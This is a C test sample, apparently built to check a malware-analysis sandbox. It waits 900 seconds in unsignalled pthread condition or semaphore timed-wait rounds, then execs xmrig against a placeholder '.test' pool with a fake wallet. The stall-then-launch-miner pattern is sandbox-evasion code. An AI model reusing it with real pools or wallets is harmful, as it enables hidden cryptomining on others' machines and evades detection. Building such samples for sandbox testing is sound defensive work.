/* Hold-out thread waits (detonate test samples; harmless, fake wallet, .test pool): each waits
 * 900 s in sub-second rounds of a pthread/semaphore primitive, then becomes the miner stand-in.
 * Written blind to the time keeper, to measure a first-pass score.
 *
 *     threadwaits cond   a worker thread: pthread_cond_timedwait(CLOCK_MONOTONIC, 250 ms) on a
 *                        condition nobody signals, 3,600 rounds; main pthread_join's it
 *     threadwaits sem    sem_timedwait(CLOCK_REALTIME deadline now+200 ms) on a semaphore
 *                        at 0, 4,500 rounds, in main
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <semaphore.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#ifndef ROUNDS_SCALE /* -DROUNDS_SCALE=1000 for a quick check */
#define ROUNDS_SCALE 1
#endif
#ifndef MINER
#define MINER "/usr/local/bin/xmrig"
#endif
#define POOL "stratum+tcp://pool.thread.test:3333"
#define WALLET "47thrEadW4itsFakeWa11etXo9qVb2LmN8cT5sR1dK6hJ3gP7yU4eZ0aB9nC2vX5mQ8wE1rT6yU3iO0pA7sD4fG2hJ5kL8zX"

static struct timespec plus_ms(clockid_t clock, long ms) {
    struct timespec t;
    clock_gettime(clock, &t);
    t.tv_nsec += ms * 1000000L;
    t.tv_sec += t.tv_nsec / 1000000000L;
    t.tv_nsec %= 1000000000L;
    return t;
}

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t never;
static int signalled; /* never set */

static void *cond_worker(void *arg) {
    (void)arg;
    pthread_mutex_lock(&lock);
    for (int i = 0; i < 3600 / ROUNDS_SCALE && !signalled; i++) {
        struct timespec until = plus_ms(CLOCK_MONOTONIC, 250);
        pthread_cond_timedwait(&never, &lock, &until);
    }
    pthread_mutex_unlock(&lock);
    return NULL;
}

static void cond_rounds(void) {
    pthread_condattr_t attr;
    pthread_condattr_init(&attr);
    pthread_condattr_setclock(&attr, CLOCK_MONOTONIC);
    pthread_cond_init(&never, &attr);
    pthread_t worker;
    if (pthread_create(&worker, NULL, cond_worker, NULL) != 0) exit(1);
    pthread_join(worker, NULL);
}

static void sem_rounds(void) {
    sem_t gate;
    if (sem_init(&gate, 0, 0) != 0) exit(1);
    for (int i = 0; i < 4500 / ROUNDS_SCALE; i++) {
        struct timespec until = plus_ms(CLOCK_REALTIME, 200);
        while (sem_timedwait(&gate, &until) != 0 && errno == EINTR) {}
    }
}

int main(int argc, char **argv) {
    void (*rounds)(void) = NULL;
    if (argc == 2 && strcmp(argv[1], "cond") == 0) rounds = cond_rounds;
    if (argc == 2 && strcmp(argv[1], "sem") == 0) rounds = sem_rounds;
    if (!rounds) {
        fprintf(stderr, "usage: threadwaits cond|sem\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("waiting 900 s in %s rounds\n", argv[1]);
    rounds();
    printf("done waiting; starting the miner\n");
    execl(MINER, "xmrig", "-o", POOL, "-u", WALLET, "--shares", "1", (char *)NULL);
    perror("exec " MINER);
    return 127;
}
